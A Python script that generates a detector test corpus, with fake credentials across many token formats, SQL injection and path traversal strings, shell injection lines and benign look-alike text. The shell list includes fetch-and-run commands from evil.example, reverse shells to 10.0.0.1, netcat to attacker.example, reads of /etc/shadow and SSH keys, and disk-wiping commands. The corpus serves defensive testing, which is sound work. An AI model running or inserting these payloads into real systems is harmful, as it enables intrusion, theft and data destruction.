#!/usr/bin/env python3
"""Generates the security corpus (malicious.jsonl, benign.jsonl) used by SecurityCorpusTests.

Every token below is random and fake (generated here with a fixed seed); nothing is downloaded.
Run from this directory: python3 generate_corpus.py
"""
import base64
import json
import random
import string
import urllib.parse
import zlib

rng = random.Random(20260222)
ALNUM = string.ascii_letters + string.digits
B62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def rand(n, alphabet=ALNUM):
    return "".join(rng.choice(alphabet) for _ in range(n))


def b62(value):
    out = ""
    while value:
        out = B62[value % 62] + out
        value //= 62
    return out.rjust(6, "0")


def github(prefix, valid=True):
    body = rand(30)
    checksum = b62(zlib.crc32(body.encode())) if valid else rand(6)
    return prefix + body + checksum


def aws(prefix="AKIA"):
    return prefix + rand(16, string.ascii_uppercase + "234567")


def private_key(kind):
    body = base64.b64encode(bytes(rng.getrandbits(8) for _ in range(600))).decode()
    lines = "\n".join(body[i:i + 64] for i in range(0, len(body), 64))
    return f"-----BEGIN {kind}PRIVATE KEY-----\n{lines}\n-----END {kind}PRIVATE KEY-----"


def jwt():
    def seg(obj):
        return base64.urlsafe_b64encode(json.dumps(obj).encode()).decode().rstrip("=")
    return seg({"alg": "HS256", "typ": "JWT"}) + "." + seg({"sub": rand(12), "iat": rng.randint(10**9, 2 * 10**9)}) + "." + rand(43, ALNUM + "-_")


malicious = []


def add(detector, text):
    malicious.append({"detector": detector, "input": text})


# ---- credentials (several formats) ----
wrappers = [
    lambda k, v: f"{k}={v}",
    lambda k, v: f'export {k}="{v}"',
    lambda k, v: f'{{"{k.lower()}": "{v}"}}',
    lambda k, v: f"{k.lower()}: {v}",
    lambda k, v: f'let {k.lower()} = "{v}"',
    lambda k, v: f"curl -H 'Authorization: token {v}' https://api.github.com/user",
]
for prefix in ["ghp_", "gho_", "ghu_", "ghs_", "ghr_"]:
    for index in range(4):
        add("credentials", rng.choice(wrappers)("GITHUB_TOKEN", github(prefix, valid=index % 2 == 0)))
for _ in range(5):
    add("credentials", rng.choice(wrappers)("GH_PAT", "github_pat_" + rand(22) + "_" + rand(59)))
for prefix in ["AKIA", "ASIA", "AKIA", "ABIA", "ACCA", "A3TX"]:
    add("credentials", rng.choice(wrappers)("AWS_ACCESS_KEY_ID", aws(prefix)))
add("credentials", f"aws_access_key_id = {aws()}\naws_secret_access_key = {rand(40, ALNUM + '/+')}")
for kind in ["RSA ", "EC ", "OPENSSH ", "", "DSA ", "ENCRYPTED "]:
    add("credentials", private_key(kind))
add("credentials", json.dumps({"private_key": private_key("")}))
for _ in range(4):
    add("credentials", rng.choice(wrappers)("SLACK_BOT_TOKEN", f"xoxb-{rng.randint(10**10, 10**11)}-{rng.randint(10**11, 10**12)}-{rand(24)}"))
for _ in range(3):
    add("credentials", f"slack_user = xoxp-{rng.randint(10**10, 10**11)}-{rng.randint(10**10, 10**11)}-{rng.randint(10**10, 10**11)}-{rand(32, string.hexdigits.lower())}")
for _ in range(3):
    add("credentials", f"webhook: https://hooks.slack.com/services/T{rand(8, string.ascii_uppercase + string.digits)}/B{rand(8, string.ascii_uppercase + string.digits)}/{rand(24)}")
for mode in ["live", "test", "live", "prod"]:
    add("credentials", rng.choice(wrappers)("STRIPE_KEY", f"sk_{mode}_{rand(24)}"))
add("credentials", f"stripe.api_key = 'rk_live_{rand(24)}'")
for _ in range(3):
    add("credentials", f"gitlab_token: glpat-{rand(20, ALNUM + '-_')}")
for _ in range(3):
    add("credentials", f"//registry.npmjs.org/:_authToken=npm_{rand(36, string.ascii_lowercase + string.digits)}")
for _ in range(3):
    add("credentials", f'const mapsKey = "AIza{rand(35, ALNUM + "-_")}";')
for _ in range(3):
    add("credentials", f"Authorization: Bearer {jwt()}")
generic_keys = ["api_key", "apiKey", "client_secret", "SECRET_KEY", "auth_token", "access_token", "db_password",
                "DATABASE_PASSWORD", "encryption_key", "app_secret"]
for key in generic_keys:
    add("credentials", f'{key} = "{rand(32, ALNUM + "+/")}"')
for key in generic_keys[:6]:
    add("credentials", f"{key}: {rand(28, ALNUM + '-_')}")
for password in ["Tr0ub4dor&3xQ!", "s3cr3t-P@ssw0rd!", "Zq8#mL2$vN9!kP", "hunter2-Hunter2-77", "P@55w0rd_2026!x"]:
    add("credentials", f'password = "{password}"')
    add("credentials", f'DB_PASSWORD="{password}"')

# ---- SQL injection ----
classic = [
    "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "admin'--", "admin' #", "admin'/*", "' OR 'a'='a",
    "') OR ('a'='a", "1 OR 1=1", "1' OR '1'='1' --", "' OR 1=1 LIMIT 1 -- -+", "1; DROP TABLE users",
    "1; DROP TABLE users--", "'; DROP TABLE accounts; --", "' UNION SELECT username, password FROM users--",
    "1 UNION SELECT NULL, version()", "1' UNION ALL SELECT 1,2,3--", "-1' UNION SELECT load_file('/etc/passwd')--",
    "1' AND SLEEP(5)--", "1 AND SLEEP(5)", "'; WAITFOR DELAY '0:0:5'--", "1; EXEC xp_cmdshell('dir')",
    "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--", "1' ORDER BY 3--", "' GROUP BY columnnames HAVING 1=1 --",
    "' HAVING 1=1--", "1' AND 1=CONVERT(int,@@version)--", "' AND extractvalue(1,concat(0x7e,version()))--",
    "1 AND (SELECT COUNT(*) FROM users) > 0", "' OR 'x'='x'#", "x' AND email IS NULL; --",
    "'; INSERT INTO users (name) VALUES ('hacker')--", "'; UPDATE users SET role='admin' WHERE name='bob'--",
    "1; DELETE FROM orders", "'; SHUTDOWN--", "1'; SELECT pg_sleep(5)--", "' OR true--", "' or 1#",
    "' || '1'='1", "1 or 1=1 into outfile '/tmp/x'", "\" OR 1=1 --", "' AND 1=0 UNION SELECT @@version --",
    "1; TRUNCATE TABLE logs", "'; CREATE USER eve IDENTIFIED BY 'x'--", "' OR 2>1 --",
    "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--", "'+(SELECT 1)+'",
]
for payload in classic:
    add("sql", payload)
commented = [
    "1 UN/**/ION SEL/**/ECT password FROM users", "' UNION/**/SELECT/**/1,2--", "'/**/OR/**/1=1--",
    "1/*!50000UNION*//*!50000SELECT*/1,2", "1 /*!union*/ /*!select*/ 1", "admin'/**/--",
    "1;/**/DROP/**/TABLE/**/users", "' OR/*comment*/'1'='1", "1 UnIoN SeLeCt 1,2,3", "' oR 1=1 -- x",
]
for payload in commented:
    add("sql", payload)
for payload in classic[:25]:
    add("sql", urllib.parse.quote(payload))
for payload in classic[:8]:
    add("sql", urllib.parse.quote(urllib.parse.quote(payload)))
add("sql", "%27%20OR%201=1")
add("sql", "1+UNION+SELECT+1,2,3")

# ---- path traversal ----
paths = [
    "../etc/passwd", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "docs/../../secret", "./../x",
    "%2e%2e%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "..%2f..%2fetc%2fpasswd", "%2E%2E%2F", "..%5c..%5cboot.ini",
    "%252e%252e%252fetc%252fpasswd", "..%252f..%252fetc", "%25%32%65%25%32%65%2f", "....//....//etc/passwd",
    "....\\\\....\\\\etc", "..../etc", "..%c0%af..%c0%afetc%c0%afpasswd", "..%c1%9c..%c1%9cboot.ini",
    "\uff0e\uff0e/etc/passwd", "..\uff0fetc\uff0fpasswd", "..\u2215etc\u2215passwd", "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fx",
    "file.txt\x00.png", "file.txt%00.png", "/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "C:\\Windows\\System32",
    "c:/boot.ini", "\\\\server\\share\\x", "uploads/..", "uploads/../../app.db", "a/b/../../../c", "..",
    "../", "..%2F", "%2e%2e", ".%2e/.%2e/etc", "%2e./%2e./etc", "uploads/%2e%2e/%2e%2e/x", "/proc/self/environ",
    "/var/log/../../etc/passwd", "..;/etc/passwd", "..\u0001/x", "sub/\u2024\u2024/x",
]
for payload in paths:
    add("path", payload)

# ---- shell ----
shells = [
    "; rm -rf /", "&& rm -rf ~", "| rm -rf *", "rm -rf / --no-preserve-root", "rm -fr /*", "sudo rm -r -f /",
    "$(whoami)", "`id`", "$(curl http://evil.example/x.sh)", "`cat /etc/passwd`", "; cat /etc/passwd",
    "| nc attacker.example 4444", "&& wget http://evil.example/a -O /tmp/a", "|| curl evil.example",
    "curl http://evil.example/install.sh | sh", "wget -qO- http://evil.example/i | bash",
    "curl -fsSL https://get.evil.example | sudo bash", "eval($_GET['cmd'])", "eval \"$PAYLOAD\"",
    "exec('import os')", "os.system('ls')", "subprocess.run(cmd, shell=True)", ":(){ :|:& };:",
    "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "nc -e /bin/sh 10.0.0.1 4444", "mkfifo /tmp/f; nc 10.0.0.1 80 < /tmp/f",
    "dd if=/dev/zero of=/dev/sda", "> /dev/sda", "mkfs.ext4 /dev/sdb1", "chmod 777 /etc/shadow",
    "chmod -R 777 /", "name; whoami", "file.txt; python3 -c 'print(1)'", "x && bash", "a | /bin/sh",
    "$(echo ZWNobyBoaQ== | base64 -d)", "cat${IFS}/etc/passwd", "foo\nrm -rf /tmp/x", "; ping -c 10 127.0.0.1",
    "| sh", "127.0.0.1; id", "test`uname -a`", "require('child_process').exec('ls')", "perl -e 'x' | perl",
]
for payload in shells:
    add("shell", payload)

# ---- benign ----
benign = []


def good(kind, text):
    benign.append({"kind": kind, "input": text})


for text in ["Please select a size", "O'Brien", "drop-down menu", "Union Station", "black or white",
             "I'll be there at 5; call me", "Please select a size from the list below", "Drop me a line",
             "Select all that apply", "Update your profile", "Delete this message?", "Insert coin to continue"]:
    good("prose", text)

subjects = ["The team", "Our customer", "My manager", "The new intern", "Everyone in the office", "The release",
            "This pull request", "The nightly build", "Support", "The design review", "Marketing", "The auditor"]
verbs = ["will review", "updated", "selected", "dropped", "approved", "created", "deleted", "ordered", "joined",
         "grouped", "inserted", "executed", "declared", "granted", "truncated", "merged"]
objects = ["the report", "a size and a color", "the union contract", "the table by the window", "the old branch",
           "two coffees", "the black or white theme", "the draft, then left", "a new user", "the order from Tuesday",
           "the holiday schedule", "all the comments", "the password policy document", "the token ring exhibit"]
tails = ["", " yesterday", " before lunch", "; call me later", " - see you at 5", " (finally)", ", or so I heard",
         " at 10:30", " and it's fine", " -- more or less"]
for _ in range(420):
    good("prose", f"{rng.choice(subjects)} {rng.choice(verbs)} {rng.choice(objects)}{rng.choice(tails)}.")

first = ["Seán", "Mary", "Patrick", "D'Arcy", "Zoë", "Renée", "Jean-Luc", "Anne-Marie", "Siobhán", "Kwame", "Li", "José"]
last = ["O'Brien", "O'Neil", "D'Angelo", "McDonald", "Smith-Jones", "O'Connor", "D'Souza", "L'Esperance",
        "Van der Berg", "Nguyen", "García", "Ó Súilleabháin"]
for _ in range(150):
    good("name", f"{rng.choice(first)} {rng.choice(last)}")
for _ in range(40):
    good("name", f"{rng.choice(last)}'s {rng.choice(['bakery', 'pub', 'garage', 'books', 'deli'])}")

products = ["Wireless mouse", "USB-C cable (2 m)", "Men's running shoes", "Kids' raincoat", "4K monitor 27\"",
            "Stainless steel bottle - 750 ml", "Espresso beans, 1 kg", "Noise-cancelling headphones",
            "Women's jacket, black or navy", "Desk lamp with USB port"]
extras = ["Free shipping over $50!", "Select a size to see availability.", "In stock: 12 left", "Rated 4.5/5 by 230 customers",
          "Save 20% -- today only", "Choose black or white.", "Drop-down: pick a colour", "Order by 3pm; ships today",
          "Size: S/M/L/XL", "Price: $19.99 (was $24.99)"]
for _ in range(160):
    good("product", f"{rng.choice(products)}. {rng.choice(extras)}")

idents = ["userName", "order_id", "selectSize", "dropDownMenu", "unionFind", "tokenizer", "passwordField",
          "api_version", "secretSanta", "keyPath", "authorName", "accessLevel", "deleteButton", "updateCount",
          "createdAt", "isTokenExpired", "credentialStore", "maxRetries", "base64Encode", "sha256Digest"]
for ident in idents:
    good("code", ident)
code_lines = [
    "let count = items.filter { $0.isActive }.count", "if user == nil || retries > 3 { return }",
    "for (key, value) in headers { print(key) }", "token = os.environ[\"GITHUB_TOKEN\"]",
    "password = getpass.getpass()", "api_key = config.get(\"api_key\")", "secret: ${{ secrets.DEPLOY_KEY }}",
    "let apiKey = ProcessInfo.processInfo.environment[\"API_KEY\"]", "PASSWORD=changeme",
    "aws_access_key_id = AKIAIOSFODNN7EXAMPLE", "token: <your-token>", "api_key = \"your-api-key-here\"",
    "password = \"xxxxxxxx\"", "auth_token = self.auth_token", "secret_key = settings.SECRET_KEY",
    "x = a - b; y = c * d", "git commit -m \"Fix drop-down menu\"", "swift build -c release", "npm install --save-dev",
    "SELECT id FROM users WHERE name = ?", "db.query(\"SELECT * FROM t WHERE id = $1\", [id])",
    "echo \"Build done\"", "ls -la", "cd Sources && swift test",
]
for line in code_lines:
    good("code", line)
for _ in range(60):
    a, b = rng.choice(idents), rng.choice(idents)
    good("code", f"let {a} = {b}.map {{ $0 * {rng.randint(2, 9)} }}")

hosts = ["example.com", "github.com", "api.github.com", "docs.swift.org", "shop.example.org", "intranet.local"]
paths_ = ["search?q=black%20or%20white", "repos/moko/lab/issues?state=open&per_page=100", "products/42?size=m",
          "wiki/Union_Station", "blog/2026/02/o-brien-interview", "login?next=%2Fdashboard", "a/b/c.html#top",
          "api/v1/users/17", "search?q=select+a+size", "?utm_source=news&utm_medium=email"]
for _ in range(110):
    good("url", f"https://{rng.choice(hosts)}/{rng.choice(paths_)}")

names = ["O'Brien", "Zoë", "Union Station", "black or white", "drop-down", "Select"]
for _ in range(110):
    obj = {"id": rng.randint(1, 10**6), "name": rng.choice(names), "active": rng.choice([True, False]),
           "tags": rng.sample(["new", "sale", "select", "union", "drop"], 2), "note": rng.choice(extras)}
    good("json", json.dumps(obj, ensure_ascii=False))
good("json", '{"token_type": "bearer", "expires_in": 3600}')
good("json", '{"api_version": "2022-11-28", "key": "value"}')
good("json", '{"password": "", "remember": true}')

with open("malicious.jsonl", "w") as handle:
    for row in malicious:
        handle.write(json.dumps(row, ensure_ascii=False) + "\n")
with open("benign.jsonl", "w") as handle:
    for row in benign:
        handle.write(json.dumps(row, ensure_ascii=False) + "\n")
print(len(malicious), "malicious,", len(benign), "benign")
